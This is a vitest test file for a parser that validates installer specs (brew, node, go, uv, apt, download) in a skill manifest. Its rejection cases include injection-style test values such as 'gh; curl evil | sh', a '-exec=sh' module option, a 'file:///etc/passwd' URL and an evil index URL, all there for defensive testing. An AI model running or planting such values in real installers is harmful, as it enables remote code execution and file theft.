import { describe, expect, it } from 'vitest';
import { describeFault, type FieldFault } from '../../src/format/field-fault.js';
import { readInstallSpecs } from '../../src/format/read-install-specs.js';
import { codes, parsed } from './read-skill.js';

function read(value: unknown) {
  const faults: FieldFault[] = [];
  const specs = readInstallSpecs(value, ['install'], faults);
  return { specs, diagnostics: faults.map(describeFault) };
}

describe('each kind names what it installs', () => {
  it.each([
    [{ kind: 'brew', formula: 'gh' }],
    [{ kind: 'brew', formula: 'user/tap/tool@2' }],
    [{ kind: 'brew', cask: 'some-app' }],
    [{ kind: 'node', package: 'typescript' }],
    [{ kind: 'node', package: '@scope/pkg' }],
    [{ kind: 'node', package: '@scope/pkg@1.2.3' }],
    [{ kind: 'node', package: 'pkg@next' }],
    [{ kind: 'go', module: 'github.com/me/tool/cmd/tool@latest' }],
    [{ kind: 'go', module: 'example.org/x@v1.2.3' }],
    [{ kind: 'uv', package: 'ruff' }],
    [{ kind: 'uv', package: 'httpie[socks]==3.2.1' }],
    [{ kind: 'apt', package: 'libfoo-dev' }],
    [{ kind: 'download', url: 'https://example.org/tool.tar.gz' }],
    [{ kind: 'download', url: 'http://example.org/tool', sha256: 'A'.repeat(64) }],
  ])('%j', (raw) => {
    const { specs, diagnostics } = read([raw]);
    expect(diagnostics).toEqual([]);
    expect(specs).toEqual([{ ...raw, id: `${raw.kind}-0`, bins: [], os: [] }]);
  });
});

describe('what can’t be used safely is dropped, with a warning', () => {
  it.each([
    ['text', 'brew install gh'],
    ['null', null],
    ['no kind', { formula: 'gh' }],
    ['an unknown kind', { kind: 'pip', package: 'x' }],
    ['a kind from the prototype', { kind: 'constructor', package: 'x' }],
    ['another kind from the prototype', { kind: '__proto__', package: 'x' }],
    ['nothing to install', { kind: 'brew' }],
    ['the wrong field', { kind: 'brew', package: 'gh' }],
    ['a blank', { kind: 'node', package: ' ' }],
    ['an option as a formula', { kind: 'brew', formula: '--HEAD' }],
    ['a path that climbs', { kind: 'brew', formula: 'a/../b' }],
    ['a backslash', { kind: 'brew', formula: 'a\\b' }],
    ['a shell in a formula', { kind: 'brew', formula: 'gh; curl evil | sh' }],
    ['a range of versions', { kind: 'node', package: 'pkg@^1.0.0' }],
    ['a URL as a package', { kind: 'node', package: 'https://evil.example/x.tgz' }],
    ['a git package', { kind: 'node', package: 'github:me/x' }],
    ['a package with a space', { kind: 'node', package: 'a b' }],
    ['an option as a package', { kind: 'node', package: '-g' }],
    ['a file as a package', { kind: 'node', package: './x' }],
    ['a URL as a module', { kind: 'go', module: 'https://github.com/me/x' }],
    ['an option as a module', { kind: 'go', module: '-exec=sh' }],
    ['an option for uv', { kind: 'uv', package: '--index-url=http://evil' }],
    ['a URL for uv', { kind: 'uv', package: 'git+https://evil' }],
    ['capitals for apt', { kind: 'apt', package: 'Foo' }],
    ['an option for apt', { kind: 'apt', package: '-o=x' }],
    ['another protocol', { kind: 'download', url: 'file:///etc/passwd' }],
    ['a URL with a line break', { kind: 'download', url: 'https://a.example/x\nhttps://b.example' }],
    ['a URL with a space', { kind: 'download', url: 'https://a.example/x y' }],
    ['a short checksum', { kind: 'download', url: 'https://a.example', sha256: 'abc' }],
    ['a checksum that is no text', { kind: 'download', url: 'https://a.example', sha256: ['a'.repeat(64)] }],
    ['an empty checksum', { kind: 'download', url: 'https://a.example', sha256: '' }],
    ['platforms that can’t be read', { kind: 'brew', formula: 'gh', os: { darwin: true } }],
    ['a line break after the name', { kind: 'brew', formula: 'gh\nevil' }],
  ])('%s', (_, raw) => {
    const { specs, diagnostics } = read([raw]);
    expect(specs).toEqual([]);
    expect(diagnostics).toHaveLength(1);
    expect(diagnostics[0]).toMatchObject({ code: 'install-spec-ignored', severity: 'warning' });
    expect(diagnostics[0]?.message).toMatch(/^Installer 1 is ignored: /);
  });

  it('one by one: the others stay, and count without it', () => {
    const { specs, diagnostics } = read([
      { kind: 'brew', formula: 'gh' },
      { kind: 'brew', formula: '-x' },
      { kind: 'node', package: 'gh' },
    ]);
    expect(specs.map(({ id }) => id)).toEqual(['brew-0', 'node-1']);
    expect(diagnostics.map(({ message }) => message)).toEqual([expect.stringMatching(/^Installer 2 /)]);
  });

  it('all of it when it is no list', () => {
    for (const value of ['brew', { kind: 'brew', formula: 'gh' }, 7]) {
      const { specs, diagnostics } = read(value);
      expect(specs).toEqual([]);
      expect(diagnostics.map(({ code }) => code)).toEqual(['install-spec-ignored']);
    }
    expect(read(undefined)).toEqual({ specs: [], diagnostics: [] });
    expect(read(null)).toEqual({ specs: [], diagnostics: [] });
  });
});

it('reads the rest of a spec', () => {
  const raw = {
    id: 'dl',
    type: 'Download',
    url: 'https://a.example/t.tgz',
    label: 'Get it',
    bins: 'a, b',
    os: ['linux'],
    archive: 'tar.gz',
    extract: true,
    stripComponents: 1.7,
    targetDir: 'bin',
    unknown: 'x',
  };
  expect(read([raw]).specs).toEqual([
    {
      id: 'dl',
      kind: 'download',
      url: 'https://a.example/t.tgz',
      label: 'Get it',
      bins: ['a', 'b'],
      os: ['linux'],
      archive: 'tar.gz',
      extract: true,
      stripComponents: 1,
      targetDir: 'bin',
    },
  ]);
});

it.each([null, '', '2', -1, Number.NaN, Number.POSITIVE_INFINITY, true, []])(
  'strips nothing for %j',
  (stripComponents) => {
    const [spec] = read([{ kind: 'download', url: 'https://a.example', stripComponents }]).specs;
    expect(spec).not.toHaveProperty('stripComponents');
  },
);

it('takes the formula when there is a cask too', () => {
  expect(read([{ kind: 'brew', formula: 'a', cask: 'b' }]).specs[0]).toMatchObject({ formula: 'a' });
});

it('a dropped spec does not keep the skill from loading', () => {
  const result = parsed('description: a\nmetadata:\n  openclaw:\n    install:\n      - kind: npm\n        package: x');
  expect(result.skill?.manifest.install).toEqual([]);
  expect(codes(result)).toEqual(['install-spec-ignored@3']);
});
